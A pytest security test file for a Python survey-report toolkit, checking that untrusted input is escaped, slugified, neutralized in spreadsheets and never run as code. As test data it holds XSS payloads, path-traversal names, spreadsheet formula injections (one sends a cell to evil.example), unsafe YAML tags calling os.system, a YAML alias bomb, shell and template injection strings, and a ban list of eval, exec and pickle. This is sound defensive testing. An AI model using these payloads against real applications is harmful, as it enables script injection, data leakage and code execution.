"""Untrusted text never becomes markup, a path, a formula or code.

Every text field a client, a respondent or a consultant controls (client, period, unit, role,
comment, the framework's own wording) is escaped in the report HTML: checked section by section
without a kernel, then once end to end in Debian's Chromium (no dialog, no script, no event
handler, the payload shown as text). File and folder names made from such text stay inside the
output folder; spreadsheet cells never start a formula; YAML never builds Python objects; no
input is evaluated as code.
"""

from __future__ import annotations

import base64
import csv
import html
import io
import re
import subprocess
import sys
import time
from contextlib import redirect_stderr, redirect_stdout
from html.parser import HTMLParser
from importlib import resources
from pathlib import Path
from xml.etree import ElementTree

import numpy as np
import openpyxl
import pandas as pd
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

import xmkit
from xmkit.batch.run import unique_slugs
from xmkit.cli import main
from xmkit.framework import parse_framework
from xmkit.io.assessment import load_assessment
from xmkit.io.iorw import FORMULA_PREFIXES, neutralize, write_table
from xmkit.io.limits import load_yaml
from xmkit.io.paths import MAX_SLUG, WINDOWS_RESERVED, slugify
from xmkit.render.execute import notebook_to_html, render_report, report_folder
from xmkit.report import sections as xr

SLUG = re.compile(r"^[a-z0-9]+(?:-[a-z0-9]+)*$")

# One payload per field, so a leak names the field it came from; window.__xss marks any that
# runs without a dialog.
PAYLOADS = {
    "client": "<script>alert('client');window.__xss='client'</script>",
    "period": "\"><svg onload=alert('period')>",
    "unit": "<img src=x onerror=\"alert('unit');window.__xss='unit'\">",
    "role_a": "javascript:alert('role')",
    "role_b": "<iframe src=\"javascript:alert('role')\"></iframe>",
    "comment": "</li><script>alert('comment')</script><a href=\"javascript:alert(1)\">x</a>",
    "framework": "</title><script>alert('framework')</script>",
    "category": "<b onmouseover=alert('category')>Visualize</b>",
    "practice": "<svg/onload=alert('practice')>",
    "step": "<img src=x onerror=alert('step')> then act",
}
ALLOWED_TAGS = {
    "header",
    "section",
    "h1",
    "h2",
    "h3",
    "p",
    "ul",
    "ol",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "div",
    "figure",
    "figcaption",
    "img",
    "strong",
    "em",
    "span",
    "br",
    "sub",
    "nav",  # the table of contents, whose links are checked below
    "a",
}


def hostile_framework_text() -> str:
    """The bundled framework with payloads in its name, a category, a practice and its steps."""
    source = resources.files("xmkit") / "frameworks" / "ex_cx_alignment.yaml"
    data = yaml.safe_load(source.read_text(encoding="utf-8"))
    data["name"] = PAYLOADS["framework"]
    data["categories"][0]["name"] = PAYLOADS["category"]
    for practice in data["categories"][0]["practices"]:
        practice["name"] = PAYLOADS["practice"] + " " + practice["id"]
        practice["next_steps"] = dict.fromkeys(practice["next_steps"], PAYLOADS["step"])
    return yaml.safe_dump(data, sort_keys=False, allow_unicode=True)


def hostile_responses(framework: xmkit.Framework, n: int = 6) -> pd.DataFrame:
    """``n`` respondents in one unit (at the minimum group size of 5), hostile everywhere."""
    rng = np.random.default_rng(3)
    data = pd.DataFrame(
        {
            "respondent_id": [f"SEC-{i:03d}" for i in range(n)],
            "unit": PAYLOADS["unit"],
            "role": [PAYLOADS["role_a"] if i % 2 else PAYLOADS["role_b"] for i in range(n)],
        }
    )
    answers = rng.integers(1, 4, size=(n, len(framework.question_ids)))  # low: every step shows
    data = pd.concat([data, pd.DataFrame(answers, columns=framework.question_ids)], axis=1)
    data["comment"] = [PAYLOADS["comment"] + f" #{i}" for i in range(n)]
    return data


class _Markup(HTMLParser):
    """Every tag and attribute of an HTML fragment, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_inert_image(src: str) -> None:
    """A chart embedded as PNG or SVG data; an SVG holds no script, no event handler and no
    script URL either (an <img> never runs them, but a user may open the image on its own)."""
    kind, _, data = src.partition(";base64,")
    assert kind in {"data:image/png", "data:image/svg+xml"}, src[:40]
    if kind == "data:image/svg+xml":
        svg = base64.b64decode(data).decode("utf-8")
        for element in ElementTree.fromstring(svg).iter():
            assert element.tag.rpartition("}")[2] not in {"script", "foreignObject"}, element
            for name, value in element.attrib.items():
                assert not name.rpartition("}")[2].lower().startswith("on"), (name, value)
                assert not value.strip().lower().startswith("javascript:"), (name, value)


def assert_inert(fragment: str) -> str:
    """No tag outside the report's own, no event handler, no script URL; returns the text."""
    parser = _Markup()
    parser.feed(fragment)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS, (tag, attrs)
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            assert not (value or "").strip().lower().startswith("javascript:"), (tag, name)
            if tag == "img" and name == "src":
                assert_inert_image(value or "")
    return " ".join(parser.text)


# ---- escaping, section by section (no kernel) ------------------------------------------------


@pytest.fixture(scope="module")
def hostile_context() -> xr.ReportContext:
    framework = parse_framework(hostile_framework_text(), "hostile.yaml")
    return xr.prepare(
        hostile_responses(framework),
        PAYLOADS["client"],
        period=PAYLOADS["period"],
        framework=framework,
        min_group_size=5,
        n_boot=50,
        include_comments=True,
    )


SECTIONS = [
    "cover",
    "summary",
    "stage",
    "categories",
    "practices",
    "units",
    "roles",
    "agreement",
    "next_steps",
    "comments",
    "questions",
    "method",
]


@pytest.mark.parametrize("section", SECTIONS)
def test_report_section_escapes_every_input_text(hostile_context, section):
    fragment = getattr(xr, section)(hostile_context)
    assert "<script" not in fragment.lower()
    assert_inert(fragment)


def test_every_payload_is_shown_as_text_somewhere_in_the_report(hostile_context):
    text = " ".join(assert_inert(getattr(xr, s)(hostile_context)) for s in SECTIONS)
    for field, payload in PAYLOADS.items():
        if field == "framework":
            assert payload in text, field
            continue
        assert payload.split(" #")[0] in text, field


def test_page_title_escapes_the_client_name():
    page = notebook_to_html(
        type("Notebook", (), {"cells": []})(), f"EX/CX alignment: {PAYLOADS['framework']}"
    )
    assert "</title><script>" not in page
    title = re.search(r"<title>(.*?)</title>", page, flags=re.S).group(1)
    assert "<" not in title and "'" not in title
    assert html.unescape(title) == f"EX/CX alignment: {PAYLOADS['framework']}"


# ---- end to end in Chromium --------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_page(browser, tmp_path_factory) -> Path:
    """A whole-organization report, HTML only, with every payload and comments shown."""
    base = tmp_path_factory.mktemp("xss")
    framework_path = base / "framework.yaml"
    framework_path.write_text(hostile_framework_text(), encoding="utf-8")
    framework = xmkit.load_framework(framework_path)
    responses = base / "responses.csv"
    hostile_responses(framework).to_csv(responses, index=False)
    written = render_report(
        responses,
        PAYLOADS["client"],
        output_dir=base / "out",
        formats="html",
        period=PAYLOADS["period"],
        framework=framework_path,
        min_group_size=5,
        include_comments=True,
    )
    return written["html"]


@pytest.mark.slow
def test_hostile_report_runs_no_script_in_chromium_and_shows_payloads_as_text(
    browser, hostile_page
):
    context = browser.new_context(viewport={"width": 1280, "height": 900}, java_script_enabled=True)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    try:
        page.goto(hostile_page.resolve().as_uri(), wait_until="load")
        page.wait_for_timeout(300)  # an onerror or onload handler would have fired by now
        found = page.evaluate(
            """() => ({
                scripts: document.querySelectorAll('script, iframe, svg, object, embed').length,
                handlers: [...document.querySelectorAll('*')].filter(
                    e => [...e.attributes].some(a => a.name.toLowerCase().startsWith('on'))
                ).length,
                scriptUrls: [...document.querySelectorAll('[href], [src]')].filter(
                    e => /^\\s*javascript:/i.test(e.getAttribute('href') || e.getAttribute('src'))
                ).length,
                marker: window.__xss === undefined ? null : String(window.__xss),
                text: document.body.innerText,
                title: document.title,
            })"""
        )
    finally:
        context.close()
    assert dialogs == []
    assert found["marker"] is None
    assert found["scripts"] == 0
    assert found["handlers"] == 0
    assert found["scriptUrls"] == 0
    assert [u for u in requests if not u.startswith(("file:", "data:"))] == []
    text = " ".join(found["text"].split())
    for field in ("client", "period", "unit", "role_a", "role_b", "category", "practice"):
        assert " ".join(PAYLOADS[field].split()) in text, field
    assert PAYLOADS["comment"] + " #0" in text
    assert PAYLOADS["client"] in found["title"]


# ---- file and folder names ---------------------------------------------------------------------

HOSTILE_NAMES = [
    "..",
    "../../etc/passwd",
    "/etc",
    "C:\\Windows\\System32",
    "\\\\server\\share",
    "CON",
    "con.txt",
    "Lpt9",
    "ＣＯＮ",  # full-width look-alike of a reserved name
    "COM¹",
    "",
    " ",
    ".",
    "...",
    "\x00",
    "a\x00b",
    "x" * 300,
    "名前" * 150,
    "Stоres",  # Cyrillic о
    "Ｓｔｏｒｅｓ",  # full-width
    "．．／．．／etc",  # full-width dots and slash
    "\u202eexe.txt",  # right-to-left override
    "~",
    "$HOME",
    "name\nwith newline",
    "trailing dot.",
    "trailing space ",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=range(len(HOSTILE_NAMES)))
def test_untrusted_name_becomes_a_safe_slug_inside_the_output_folder(name, tmp_path):
    slug = slugify(name)
    assert SLUG.match(slug), slug
    assert len(slug) <= MAX_SLUG
    assert slug not in WINDOWS_RESERVED
    folder = report_folder(tmp_path / "out", name, name)
    assert folder.resolve().is_relative_to((tmp_path / "out").resolve())
    assert len(folder.relative_to(tmp_path / "out").parts) == 2


@settings(max_examples=200, deadline=None)
@given(name=st.text(max_size=400))
def test_any_text_gives_a_slug_of_safe_characters_that_stays_in_its_folder(name):
    slug = slugify(name)
    assert SLUG.match(slug), (name, slug)
    assert len(slug) <= MAX_SLUG and slug not in WINDOWS_RESERVED
    assert Path("out", slug).parent == Path("out")


def test_look_alike_names_never_share_a_folder():
    pairs = [("Stores", "Stоres"), ("Stores", "Ｓｔｏｒｅｓ"), ("file", "ﬁle"), ("con", "ＣＯＮ")]
    for plain, look_alike in pairs:
        assert slugify(plain) != slugify(look_alike), (plain, look_alike)
    names = ["Stores", "Stоres", "Ｓｔｏｒｅｓ", "stores", "STORES", "Stores!", "index"]
    slugs = unique_slugs(names)
    assert len(set(slugs.values())) == len(names)
    assert "index" not in slugs.values()  # the portfolio page keeps its name


# ---- spreadsheet cells -----------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _written_cells(path: Path) -> list[str]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8", newline="") as fh:
            return [cell for row in csv.reader(fh) for cell in row]
    book = openpyxl.load_workbook(path)
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)  # no formula at all
    return [str(c.value) for c in cells]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_written_tables_never_start_a_cell_with_a_formula_character(tmp_path, suffix):
    data = pd.DataFrame({"unit": FORMULAS, "score": np.linspace(-1, 1, len(FORMULAS))})
    data[FORMULAS[0]] = FORMULAS[::-1]  # a hostile header too
    path = write_table(data, tmp_path / f"table{suffix}")
    cells = [c for c in _written_cells(path) if not _is_number(c)]  # -0.5 is a number
    for cell in cells:
        assert not cell.lstrip(" ").startswith(FORMULA_PREFIXES), cell
    for formula in FORMULAS:  # an XLSX cell stores a carriage return as a line feed
        assert "'" + formula in cells or "'" + formula.replace("\r", "\n") in cells, formula


def test_a_carriage_return_inside_a_csv_cell_cannot_start_a_new_row_with_a_formula(tmp_path):
    """Excel ends a row at a lone CR: an unquoted "North\r=HYPERLINK(...)" would be two rows."""
    data = pd.DataFrame({"unit": ['North\r=HYPERLINK("http://evil.example")', "South"]})
    path = write_table(data, tmp_path / "table.csv")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["unit"], [data["unit"][0]], ["South"]]  # the CR stayed inside its cell
    assert b'"North\r=' in path.read_bytes()  # because the cell is quoted


@settings(max_examples=150, deadline=None)
@given(value=st.text(max_size=20))
def test_neutralized_text_never_starts_with_a_formula_character(value):
    safe = neutralize(value)
    assert not safe.lstrip(" ").startswith(FORMULA_PREFIXES)
    assert safe in (value, "'" + value)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_score_output_neutralizes_hostile_unit_names(tmp_path, make_wide, suffix):
    units = [f for f in FORMULAS if f == f.strip()]  # loading strips surrounding whitespace
    data = make_wide(n=len(units) * 5)
    data["unit"] = [units[i % len(units)] for i in range(len(data))]
    source = tmp_path / "responses.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, quoting=csv.QUOTE_ALL).writerows([data.columns, *data.to_numpy()])
    out = tmp_path / f"scores{suffix}"
    with redirect_stdout(io.StringIO()), redirect_stderr(io.StringIO()) as err:
        code = main(["score", str(source), "--by", "unit", "--bootstrap", "0", "-o", str(out)])
    assert code == 0, err.getvalue()
    cells = [c for c in _written_cells(out) if not _is_number(c)]
    assert not [c for c in cells if c.lstrip(" ").startswith(FORMULA_PREFIXES)]
    assert {"'" + u for u in units} <= set(cells)


# ---- YAML and code ---------------------------------------------------------------------------

UNSAFE_YAML = [
    "!!python/object/apply:os.system ['touch {marker}']",
    "x: !!python/object/apply:subprocess.check_output [['touch', '{marker}']]",
    "x: !!python/name:os.system",
    "!!python/object/new:os.system ['touch {marker}']",
]


@pytest.mark.parametrize("template", UNSAFE_YAML, ids=range(len(UNSAFE_YAML)))
def test_yaml_with_python_tags_is_refused_and_runs_nothing(tmp_path, template):
    marker = tmp_path / "PWNED"
    text = template.format(marker=marker)
    with pytest.raises(xmkit.XmkitError, match="not valid YAML"):
        parse_framework(text, "framework.yaml")
    assessment = tmp_path / "assessment.yaml"
    assessment.write_text(text, encoding="utf-8")
    with pytest.raises(xmkit.XmkitError):
        load_assessment(assessment)
    with pytest.raises(yaml.YAMLError):
        load_yaml(text)
    assert not marker.exists()


def test_yaml_aliases_are_refused_before_they_expand():
    bomb = 'a: &a ["x","x","x","x","x","x","x","x","x"]\n' + "".join(
        f"{n}: &{n} [{', '.join([f'*{p}'] * 9)}]\n"
        for p, n in zip("abcdefgh", "bcdefghi", strict=True)
    )
    with pytest.raises(yaml.YAMLError, match="aliases"):
        load_yaml(bomb)
    assert load_yaml("a: [1, 2]\nb: {c: d}\n") == {"a": [1, 2], "b": {"c": "d"}}


def test_assessment_with_an_alias_bomb_under_targets_is_refused_at_once(tmp_path):
    levels = 'l0: &l0 ["x","x","x","x","x","x","x","x","x"]\n' + "".join(
        f"  l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]\n" for n in range(1, 10)
    )
    text = "client: Acme\ntargets:\n  " + levels.replace("\n  ", "\n  ", 1)
    (tmp_path / "responses.csv").write_text("respondent_id,unit,role\n", encoding="utf-8")
    (tmp_path / "assessment.yaml").write_text(text, encoding="utf-8")
    assert len(text) < 1000  # expanded, 9**10 strings: billions of nodes
    start = time.perf_counter()
    with pytest.raises(xmkit.XmkitError, match="aliases") as error:
        load_assessment(tmp_path)
    assert time.perf_counter() - start < 1.0
    assert "assessment.yaml" in str(error.value) and "row" in str(error.value)


def test_an_oversized_assessment_file_is_refused_before_it_is_parsed(tmp_path):
    (tmp_path / "assessment.yaml").write_text("client: Acme\n" + "#" * 2_000_000, "utf-8")
    with pytest.raises(xmkit.XmkitError, match="larger than"):
        load_assessment(tmp_path)


CODE_CELLS = [
    "__import__('os').system('touch {marker}')",
    "exec(\"open('{marker}', 'w')\")",
    '=SYSTEM("touch {marker}")',
    "${{touch {marker}}}",
    "$(touch {marker})",
    "{{{{ cycler.__init__.__globals__.os.system('touch {marker}') }}}}",
]


def test_cells_that_look_like_code_are_data_never_evaluated(tmp_path, make_wide):
    marker = tmp_path / "PWNED"
    data = make_wide(n=len(CODE_CELLS))
    for i, code in enumerate(CODE_CELLS):
        cell = code.format(marker=marker)
        data.loc[i, "v1_1"] = cell
        data.loc[i, "unit"] = cell
        data.loc[i, "respondent_id"] = cell
    data["comment"] = [c.format(marker=marker) for c in CODE_CELLS]
    path = tmp_path / "responses.csv"
    data.to_csv(path, index=False)
    loaded = xmkit.io.responses.read_responses(path)
    assert [p.row for p in loaded.problems] == list(range(2, 2 + len(CODE_CELLS)))
    assert all("answer not a number" in p.message for p in loaded.problems)
    assert not marker.exists()


def test_xmkit_source_has_no_eval_exec_pickle_or_unsafe_yaml():
    """Nothing in the package can turn input into code: no eval, exec, pickle, shell."""
    package = Path(xmkit.__file__).parent
    banned = re.compile(
        r"\b(eval|exec)\(|\bpickle\b|\bmarshal\b|shell=True|yaml\.(unsafe_)?load\(.*Loader=yaml\.(Unsafe|Full)?Loader\b|\bos\.system\("
    )
    offenders = [
        f"{path.name}:{n}: {line.strip()}"
        for path in package.rglob("*.py")
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if banned.search(line) and not line.lstrip().startswith("#")
    ]
    assert offenders == []


def test_papermill_parameters_with_quotes_and_newlines_stay_strings(tmp_path):
    """Client and unit go into the notebook as Python source: papermill must quote them."""
    from papermill.translators import PythonTranslator

    marker = tmp_path / "PWNED"
    hostile = f"x\"; open({str(marker)!r}, 'w'); y = \"\\\n'''\"\"\""
    source = PythonTranslator.codify({"client": hostile, "unit": hostile})
    done = subprocess.run(
        [sys.executable, "-c", source + "\nprint(repr(client))"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == repr(hostile)
    assert not marker.exists()


def test_dollar_signs_in_names_are_drawn_as_text_not_parsed_as_tex(make_wide):
    data = make_wide(n=12).astype({q: float for q in xmkit.load_framework().question_ids})
    data["unit"] = ["Cost $\\frac$ centre"] * 6 + ["Sales_$ & $_Ops"] * 6
    ctx = xr.prepare(data, "Acme", min_group_size=5, n_boot=0)
    assert "Cost $\\frac$ centre" in xr.units(ctx)


def test_hand_over_sections_escape_every_input_text(hostile_context):
    from xmkit.report import handover

    sections = [xr.summary(hostile_context), xr.roles(hostile_context)]
    for fragment in [handover.sample(hostile_context), handover.contents(*sections)]:
        assert "<script" not in fragment.lower()
        assert_inert(fragment)
    links = re.findall(r'href="([^"]*)"', handover.contents(*sections))
    assert links and all(re.fullmatch(r"#sec-[a-z_]+", link) for link in links)
